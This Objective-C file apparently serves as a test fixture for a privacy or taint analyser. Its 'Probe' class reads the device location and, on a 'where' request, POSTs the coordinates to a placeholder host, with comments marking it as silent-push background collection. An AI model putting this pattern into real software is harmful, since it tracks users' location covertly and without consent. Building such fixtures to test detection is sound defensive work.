#import "Probe.h"

#import <CoreLocation/CoreLocation.h>

@implementation Probe {
  CLLocationManager* _manager;
}

- (instancetype)init {
  if ((self = [super init])) _manager = [[CLLocationManager alloc] init];
  return self;
}

- (NSDictionary*)state {
  // source: background/silent-push-collection
  CLLocation* place = _manager.location;
  // source: background/silent-push-collection
  CLLocationCoordinate2D here = place.coordinate;
  return @{@"lat" : @(here.latitude), @"lon" : @(here.longitude)};
}

- (void)answerQuestion:(NSString*)question done:(dispatch_block_t)done {
  if (![question isEqualToString:@"where"]) {
    done();
    return;
  }
  NSMutableURLRequest* request =
      [NSMutableURLRequest requestWithURL:[NSURL URLWithString:@"https://probe.tankstelle.example/answer"]];
  request.HTTPMethod = @"POST";
  NSData* body = [NSJSONSerialization dataWithJSONObject:[self state] options:0 error:nil];
  NSURLSession* session = NSURLSession.sharedSession;
  // expect: background/silent-push-collection
  [[session uploadTaskWithRequest:request
                         fromData:body
                completionHandler:^(NSData* data, NSURLResponse* response, NSError* error) {
                  done();
                }] resume];
}

@end
